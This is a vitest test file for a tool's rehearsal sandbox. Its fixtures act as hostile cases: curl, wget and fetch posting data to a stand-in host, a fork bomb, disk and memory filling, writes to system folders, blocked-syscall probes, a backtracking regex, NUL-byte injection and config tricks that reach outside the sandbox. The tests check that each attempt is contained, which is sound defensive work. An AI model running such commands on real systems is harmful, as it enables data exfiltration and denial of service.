import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { sandboxProbe } from '../../src/rehearse/sandbox.js';
import { tempDir } from '../helpers.js';
import { bin, byCase, type JsonCase, processesRunning, type Run, skillc, tree } from '../rehearse/helpers.js';

/**
 * The third security round (issue 24) against `skillc rehearse`: what a hostile
 * case could do in skillc's own process (a built-in command listing outside the
 * sandbox, a pattern that backtracks for hours, a timeout of days, a NUL byte
 * that left the process hanging) and through the sandbox's walls (captures kept
 * out of the channel, `/usr/bin/curl` by absolute path, writes to the root and
 * /var/tmp, filling memory or the disk, a fork bomb, system calls no rehearsal
 * needs). Each case is named pass-… and must come out failed or an error, with
 * its reason, and nothing may leak or stay behind.
 */
const probe = sandboxProbe();
const SECRET = 'skillc-r3-secret-51c9';
const SKILL = `---\nname: probe\ndescription: Use when testing the rehearsal sandbox.\nskillc:\n  effects: [unknown, x.y]\n---\n\n# Probe\n`;
const line = (o: object): string => `${JSON.stringify(o)}\n`;
const reasonOf = (c: JsonCase | undefined): string => `${c?.firstFailure?.id}: ${c?.firstFailure?.message}\n${c?.firstFailure?.evidence ?? ''}`;

let outside = '';
beforeAll(() => {
  outside = fs.realpathSync(tempDir('skillc-r3-outside-'));
  fs.chmodSync(outside, 0o755);
  fs.mkdirSync(path.join(outside, 'skills', 'private'), { recursive: true });
  fs.writeFileSync(path.join(outside, 'skills', 'private', 'SKILL.md'), `---\nname: private-skill\ndescription: ${SECRET}\n---\n# P\n`);
  fs.writeFileSync(path.join(outside, 'config.json'), JSON.stringify({ sources: path.join(outside, 'skills') }));
});

describe("rehearse round 3: skillc's own process", () => {
  let run: Run;
  let cases: Map<string, JsonCase>;

  beforeAll(async () => {
    const root = tree({
      'probe/SKILL.md': SKILL,
      'probe/scripts/run.sh': '"$@"\n',
      // A config in the case folder whose sources point out: `catalog` must not load it.
      'probe/fixtures/pass-catalog-case-config/case.yaml': 'command: catalog\n',
      'probe/fixtures/pass-catalog-case-config/skillc.config.json': JSON.stringify({ sources: path.join(outside, 'skills') }),
      'probe/fixtures/pass-catalog-case-config-host/case.yaml': 'command: catalog\nargs: [--host, claude]\n',
      'probe/fixtures/pass-catalog-case-config-host/skillc.config.json': JSON.stringify({ sources: path.join(outside, 'skills') }),
      // `-c<file>` in one word: parsed as --config, which a case may not use.
      'probe/fixtures/pass-catalog-short-config/case.yaml': `command: catalog\nargs: ["-c${path.join(outside, 'config.json')}"]\n`,
      'probe/fixtures/pass-gate-skill-outside/case.yaml': `command: gate\nargs: [notes.md, "--skill=${path.join(outside, 'skills', 'private')}"]\n`,
      // 40 a's and a b: `^(a+)+$` backtracks for hours in a backtracking engine.
      'probe/fixtures/pass-regex-backtracking/case.yaml': `command: scripts/run.sh\nargs: [sh, -c, "printf ${'a'.repeat(40)}b"]\nstdout: { matches: "^(a+)+$" }\ntimeout: 1\n`,
      'probe/fixtures/pass-regex-invalid/case.yaml': 'command: scripts/run.sh\nargs: ["true"]\nstderr: { matches: "(" }\n',
      'probe/fixtures/pass-trace-timeout-days/trace.jsonl': line({ type: 'command', argv: ['true'], timeout: 86400 }),
      'probe/fixtures/pass-trace-exit-300/trace.jsonl': line({ type: 'command', argv: ['true'], exit: 300 }),
      'probe/fixtures/pass-trace-env-name/trace.jsonl': line({ type: 'command', argv: ['true'], env: { 'A=B': 'x' } }),
    });
    run = await skillc(['rehearse', 'probe', '--format', 'json'], root);
    cases = byCase(run.stdout);
  });

  it('never lists a skill outside the sandbox through a config in the case folder', () => {
    expect(run.stdout).not.toContain(SECRET);
    for (const name of ['pass-catalog-case-config', 'pass-catalog-case-config-host']) {
      expect(cases.get(name)!.actual, reasonOf(cases.get(name))).toBe('fail');
      expect(reasonOf(cases.get(name))).toMatch(/^exit: `catalog.*` exited 1[\s\S]*no skill/);
    }
  });

  it('refuses --config in any spelling, and a folder outside the sandbox, as a sandbox error', () => {
    expect(reasonOf(cases.get('pass-catalog-short-config'))).toMatch(/^sandbox: Unexpected `catalog` option `--config` is not allowed in a case/);
    expect(cases.get('pass-catalog-short-config')!.actual).toBe('error');
    expect(reasonOf(cases.get('pass-gate-skill-outside'))).toMatch(/^sandbox: Unexpected `gate` argument `.*private` is outside the sandbox/);
  });

  it('stops a backtracking stdout pattern at the case timeout instead of hanging', () => {
    expect(run.code).toBe(1);
    const c = cases.get('pass-regex-backtracking')!;
    expect(c.actual).toBe('fail');
    expect(reasonOf(c)).toMatch(/^stdout: Unexpected stdout[\s\S]*the pattern ran past 1 s and was stopped/);
  });

  it('refuses, when the case loads and with a position, a pattern that does not compile and impossible trace values', () => {
    expect(reasonOf(cases.get('pass-regex-invalid'))).toMatch(/^case: Unexpected `stderr\.matches` that is not a regular expression \(case\.yaml:3:20\)/);
    expect(reasonOf(cases.get('pass-trace-timeout-days'))).toMatch(/^trace: trace\.jsonl:1: Unexpected `timeout` 86400, expected a positive number of seconds, at most 600/);
    expect(reasonOf(cases.get('pass-trace-exit-300'))).toMatch(/^trace: trace\.jsonl:1: Unexpected `exit` 300, expected an exit status from 0 to 255/);
    expect(reasonOf(cases.get('pass-trace-env-name'))).toMatch(/^trace: trace\.jsonl:1: Unexpected `env` \{"A=B":"x"\}, expected a map of variable names/);
  });
});

describe('rehearse round 3: NUL bytes and every exit path', () => {
  let run: Run;
  let cases: Map<string, JsonCase>;

  beforeAll(async () => {
    const root = tree({
      'probe/SKILL.md': SKILL,
      'probe/scripts/run.sh': '"$@"\n',
      'probe/fixtures/pass-nul-args/case.yaml': 'command: scripts/run.sh\nargs: [sh, "-c", "sleep 71.4432\\0x"]\n',
      'probe/fixtures/pass-nul-args-file/case.yaml': 'command: scripts/run.sh\n',
      'probe/fixtures/pass-nul-args-file/.args': 'sh -c\nsleep 71.4433\0\n',
      'probe/fixtures/pass-nul-env/case.yaml': 'command: scripts/run.sh\nargs: ["true"]\nenv: { A: "x\\0y" }\n',
      'probe/fixtures/pass-nul-argv/trace.jsonl': line({ type: 'command', argv: ['sh', '-c', 'sleep 71.4434\0'] }),
      'probe/fixtures/pass-nul-run/trace.jsonl': line({ type: 'command', run: 'sleep 71.4435 \0' }),
      'probe/fixtures/pass-nul-trace-env/trace.jsonl': line({ type: 'command', argv: ['true'], env: { A: '\0' } }),
      'probe/fixtures/pass-nul-write/trace.jsonl': line({ type: 'file.write', path: 'a\0b', content: 'x' }),
      // After the refused cases, one that runs: the run goes on and ends.
      'probe/fixtures/pass-runs/case.yaml': 'command: scripts/run.sh\nargs: ["true"]\n',
    });
    run = await skillc(['rehearse', 'probe', '--format', 'json'], root);
    cases = byCase(run.stdout);
  });

  it('exits (instead of hanging after an internal error) and leaves no child process', () => {
    expect(run.code, run.stderr).toBe(1);
    expect(processesRunning('71.443')).toEqual([]);
    expect(cases.get('pass-runs')).toMatchObject({ actual: 'pass', ok: true });
  });

  it('refuses each NUL byte when the case loads, saying where', () => {
    expect(reasonOf(cases.get('pass-nul-args'))).toMatch(/^case: Unexpected NUL byte in `args\[2\]` \(case\.yaml:2:18, character 14\)/);
    expect(reasonOf(cases.get('pass-nul-args-file'))).toMatch(/^case: Unexpected NUL byte in the arguments file `\.args` \(line 2, column 14\)/);
    expect(reasonOf(cases.get('pass-nul-env'))).toMatch(/^case: Unexpected NUL byte in `env\.A` \(case\.yaml:3:11, character 2\)/);
    expect(reasonOf(cases.get('pass-nul-argv'))).toMatch(/^trace: trace\.jsonl:1: Unexpected `argv` .* \(a NUL byte in `argv\[2\]` at character 14\)/);
    expect(reasonOf(cases.get('pass-nul-run'))).toMatch(/^trace: trace\.jsonl:1: Unexpected `run` .* \(a NUL byte in `run` at character 15\)/);
    expect(reasonOf(cases.get('pass-nul-trace-env'))).toMatch(/^trace: trace\.jsonl:1: Unexpected `env` .* \(a NUL byte in `env\.A` at character 1\)/);
    expect(reasonOf(cases.get('pass-nul-write'))).toMatch(/^trace: trace\.jsonl:1: Unexpected `path` .* \(a NUL byte in `path` at character 2\)/);
    for (const c of cases.values()) if (c.case !== 'pass-runs') expect(c.actual, c.case).toBe('error');
  });
});

describe('rehearse round 3: skillc stopped while a command runs', () => {
  const MARKER = `skillc-r3-marker-${process.pid}`;

  it('kills the running command and removes its sandbox on SIGTERM, even unsandboxed (a process group outlives its parent)', async () => {
    const root = tree({ 'probe/SKILL.md': SKILL, 'probe/scripts/run.sh': '"$@"\n', 'probe/fixtures/pass-hang/case.yaml': 'command: scripts/run.sh\nargs: [sh, -c, "sleep 71.7741 & sleep 71.7741"]\ntimeout: 60\n', [`probe/fixtures/pass-hang/${MARKER}`]: '' });
    const cli = spawn(process.execPath, [bin, 'rehearse', 'probe', '--unsandboxed'], { cwd: root, stdio: 'ignore', env: { PATH: process.env.PATH ?? '', SKILLC_REHEARSE_NO_SANDBOX: '1' } });
    const exited = new Promise<NodeJS.Signals | null>((resolve) => cli.once('exit', (_code, signal) => resolve(signal)));
    // Until the case's command runs: run.sh, sh -c and its two sleeps (a bounded wait, not a timing assertion).
    for (let i = 0; i < 600 && processesRunning('71.7741').length < 4; i++) await new Promise((r) => setTimeout(r, 50));
    expect(processesRunning('71.7741').length).toBe(4);
    // This case's sandbox: the one whose run folder holds the case's marker file.
    const sandboxes = (): string[] => fs.readdirSync(os.tmpdir()).filter((n) => n.startsWith('skillc-rehearse-') && fs.existsSync(path.join(os.tmpdir(), n, 'run', MARKER)));
    expect(sandboxes().length).toBeGreaterThan(0);
    cli.kill('SIGTERM');
    expect(await exited).toBe('SIGTERM');
    expect(processesRunning('71.7741')).toEqual([]);
    expect(sandboxes()).toEqual([]);
  });
});

describe('rehearse round 3: time budgets', () => {
  it('cuts a command at the run budget (--time-budget) and does not rehearse the cases after it', async () => {
    const root = tree({
      'probe/SKILL.md': SKILL,
      'probe/scripts/run.sh': '"$@"\n',
      'probe/fixtures/pass-a-long/case.yaml': 'command: scripts/run.sh\nargs: [sleep, "71.5521"]\ntimeout: 600\n',
      'probe/fixtures/pass-b-after/case.yaml': 'command: scripts/run.sh\nargs: ["true"]\n',
    });
    const r = await skillc(['rehearse', 'probe', '--format', 'json', '--time-budget', '2'], root);
    const cases = byCase(r.stdout);
    // Killed when the budget ran out (or, on a machine so loaded that making the sandbox took the 2 s, not started).
    expect(reasonOf(cases.get('pass-a-long'))).toMatch(/^timeout: Unexpected (hang: `scripts\/run\.sh sleep 71\.5521` was killed with its process group after [\d.]+ s, when|`scripts\/run\.sh sleep 71\.5521` not run:) the rehearsal's time budget \(2 s for the whole run, --time-budget\)/);
    expect(reasonOf(cases.get('pass-b-after'))).toMatch(/^case: not rehearsed: the rehearsal's time budget \(2 s for the whole run, --time-budget\) was used up/);
    expect(processesRunning('71.5521')).toEqual([]);
  });

  it('refuses --timeout past 600 s and a budget that is not a positive number', async () => {
    const root = tree({ 'probe/SKILL.md': SKILL });
    for (const args of [['--timeout', '86400'], ['--time-budget', '0'], ['--time-budget', 'x']]) {
      const r = await skillc(['rehearse', 'probe', ...args], root);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr).toMatch(/expects a positive number of seconds/);
    }
  });
});

describe.skipIf(!probe.ok)(`rehearse round 3: the capture channel and the walls${probe.ok ? '' : ` (skipped: ${probe.why})`}`, () => {
  let cases: Map<string, JsonCase>;

  beforeAll(async () => {
    const root = tree({
      'probe/SKILL.md': SKILL,
      'probe/scripts/run.sh': '"$@"\n',
      // 9 MiB of captures the skill declares (`x.y`, and `unknown` for the marker of old).
      'probe/fixtures/pass-capture-overflow/case.yaml': `command: scripts/run.sh\nargs: [node, -e, "const fs = require('fs'); const l = JSON.stringify({ effect: 'x.y', via: 'z', pad: 'p'.repeat(1000) }) + '\\\\n'; for (let i = 0; i < 9000; i++) fs.appendFileSync(process.env.SKILLC_CAPTURE_LOG, l)"]\n`,
      // Points the fakes elsewhere through the environment.
      'probe/fixtures/pass-redirect-channel/case.yaml': 'command: scripts/run.sh\nargs: [sh, -c, "SKILLC_CAPTURE_LOG=/dev/null curl -s -d x https://h.example/a; export SKILLC_CAPTURE_LOG=/dev/null; wget -q --post-data=y https://h.example/b; node -e \\"fetch(\'https://h.example/c\', { method: \'PUT\' })\\""]\n',
      // The real programs by absolute path.
      'probe/fixtures/pass-absolute-programs/case.yaml': 'command: scripts/run.sh\nargs: [sh, -c, "/usr/bin/curl -s -d x https://h.example/abs; /usr/bin/wget -q -O- https://h.example/abs2; /usr/bin/git push origin main; true"]\n',
      // Writes where the sandbox is read-only, and memory or disk filled.
      'probe/fixtures/pass-write-root/case.yaml': 'command: scripts/run.sh\nargs: [sh, -c, "for f in /planted /var/tmp/planted /dev/planted; do (echo x > $f) 2>/dev/null && echo writable $f; done; true"]\nstdout: ""\n',
      'probe/fixtures/pass-fill-shm/case.yaml': 'command: scripts/run.sh\nargs: [sh, -c, "head -c 100000000 /dev/zero > /dev/shm/big"]\n',
      'probe/fixtures/pass-big-file/case.yaml': 'command: scripts/run.sh\nargs: [sh, -c, "head -c 300000000 /dev/zero > big"]\n',
      // Sparse files: 1.25 GB that take no disk, over what the writable folders may hold.
      'probe/fixtures/pass-fill-run/case.yaml': 'command: scripts/run.sh\nargs: [sh, -c, "for i in 1 2 3 4 5; do truncate -s 250M f$i; done; sleep 5"]\n',
      'probe/fixtures/pass-fork-bomb/case.yaml': 'command: scripts/run.sh\nargs: [sh, -c, "i=0; while [ $i -lt 1000 ]; do sleep 71.6613 & i=$((i+1)); done; wait"]\ntimeout: 30\n',
      // keyctl, bpf, perf_event_open, io_uring_setup: EINVAL or EFAULT without the filter, EPERM with it.
      ...(process.arch === 'x64' ? { 'probe/fixtures/pass-syscalls/case.yaml': 'command: scripts/run.sh\nargs: [/usr/bin/perl, -e, "for my $n (250, 321, 298, 425) { $! = 0; syscall($n, 0, 0, 0, 0); print \\"$n:\\" . ($! + 0) . \\"\\\\n\\" }"]\nstdout: "unfiltered"\n' } : {}),
    });
    // To a file: the report holds the 8,000 captures of the overflow, more than a pipe's buffer here.
    const report = path.join(root, 'report.json');
    const run = await skillc(['rehearse', 'probe', '--format', 'json', '-o', report], root);
    expect(run.code, run.stderr).toBe(1);
    cases = byCase(fs.readFileSync(report, 'utf8'));
  });

  it('makes a capture overflow an error that no declared effect absorbs', () => {
    const c = cases.get('pass-capture-overflow')!;
    expect(c.actual).toBe('error');
    expect(reasonOf(c)).toMatch(/^sandbox: Unexpected capture overflow: a command sent more than 8388608 bytes of captures/);
  });

  it('writes captures to the channel fixed at install, whatever the environment says', () => {
    expect(cases.get('pass-redirect-channel')!.captures.map((k) => `${String(k.via)} ${String(k.url)}`)).toEqual(['curl https://h.example/a', 'wget https://h.example/b', 'fetch https://h.example/c']);
  });

  it('captures curl, wget and git push run by absolute path', () => {
    expect(cases.get('pass-absolute-programs')!.captures.map((k) => `${k.effect} ${String(k.via)}`)).toEqual(['http.post curl', 'http.get wget', 'git.push git']);
  });

  it('keeps the root, /var/tmp and /dev read-only', () => {
    expect(cases.get('pass-write-root'), reasonOf(cases.get('pass-write-root'))).toMatchObject({ actual: 'pass', ok: true });
    expect(fs.existsSync('/planted') || fs.existsSync('/var/tmp/planted')).toBe(false);
  });

  it('caps /dev/shm and the size of a file', () => {
    expect(reasonOf(cases.get('pass-fill-shm'))).toMatch(/^exit: [\s\S]*No space left on device/);
    expect(reasonOf(cases.get('pass-big-file'))).toMatch(/^exit: .* exited 153[\s\S]*File size limit exceeded/);
  });

  it('kills a command whose writable folders grow past their limit, as a sandbox error', () => {
    const c = cases.get('pass-fill-run')!;
    expect(c.actual).toBe('error');
    expect(reasonOf(c)).toMatch(/^sandbox: Unexpected `.*` over the sandbox's limits: the run folder, HOME and TMPDIR hold more than 1024 MiB; it was killed/);
  });

  it('stops a fork bomb at the process limit, and nothing of it outlives the case', () => {
    const c = cases.get('pass-fork-bomb')!;
    expect(c.actual).toBe('fail');
    expect(reasonOf(c)).toMatch(/^exit: [\s\S]*(Cannot fork|Resource temporarily unavailable)/);
    expect(processesRunning('71.6613')).toEqual([]);
  });

  it.skipIf(process.arch !== 'x64')('denies system calls no rehearsal needs (seccomp)', () => {
    expect(reasonOf(cases.get('pass-syscalls'))).toContain('got "250:1\\n321:1\\n298:1\\n425:1"');
  });
});

describe.skipIf(!probe.ok || process.getuid?.() !== 0)('rehearse round 3: as root, with a temporary folder nobody cannot enter', () => {
  it('places the sandbox where nobody can reach it, and the case runs', async () => {
    // A 0700 folder of root's, as a root CI job's TMPDIR under /root is.
    const privateTmp = tempDir('skillc-r3-private-');
    fs.chmodSync(privateTmp, 0o700);
    const root = tree({ 'probe/SKILL.md': SKILL, 'probe/scripts/run.sh': '"$@"\n', 'probe/fixtures/pass-runs/case.yaml': 'command: scripts/run.sh\nargs: ["true"]\n' });
    const r = await skillc(['rehearse', 'probe', '--format', 'json'], root, { TMPDIR: privateTmp });
    expect(r.stderr).not.toMatch(/NO SANDBOX/);
    expect(byCase(r.stdout).get('pass-runs')).toMatchObject({ actual: 'pass', ok: true });
    expect(fs.readdirSync(privateTmp)).toEqual([]);
  });
});
